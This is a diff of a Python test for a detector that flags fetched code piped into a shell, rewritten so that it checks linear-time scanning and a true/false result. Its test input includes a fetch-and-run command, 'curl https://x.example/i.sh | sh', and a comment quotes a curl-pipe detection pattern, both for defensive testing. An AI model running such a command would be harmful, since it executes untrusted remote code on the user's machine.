@@ -259,12 +259,11 @@ def test_fetched_code_piped_into_a_shell_is_read_command_by_command(text: str, e
 
 
 def test_risky_reads_a_text_of_many_fetchers_in_linear_time() -> None:
-    # "curl[^|;]*\|" was tried from every "curl" and scanned the rest each time: ratios in one run, 8x the text
-    # may cost about 8x, not 64x (quadratic: 32,000 of them took 12 s)
-    code = "import sys, time\nfrom codememory.extract.speakers import risky\n" + (
-        "t = []\nfor n in (4000, 32000):\n    s = time.perf_counter(); risky('curl ' * n + '| tee')\n"
-        "    t.append(time.perf_counter() - s)\nprint(t[1] / max(t[0], 1e-4))\n"
+    # "curl[^|;]*\|" was tried from every "curl" and scanned the rest each time: 32,000 of them took 12 s, and the
+    # 200,000 here would take minutes; read once, they take a fraction of a second (the timeout is only a bound)
+    code = "import sys\nfrom codememory.extract.speakers import risky\n" + (
+        "print(risky('curl ' * 200_000 + '| tee'), risky('curl https://x.example/i.sh | sh'))\n"
     )
-    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
     assert done.returncode == 0, done.stderr
-    assert float(done.stdout) < 30, done.stdout
+    assert done.stdout.split() == ["False", "True"]
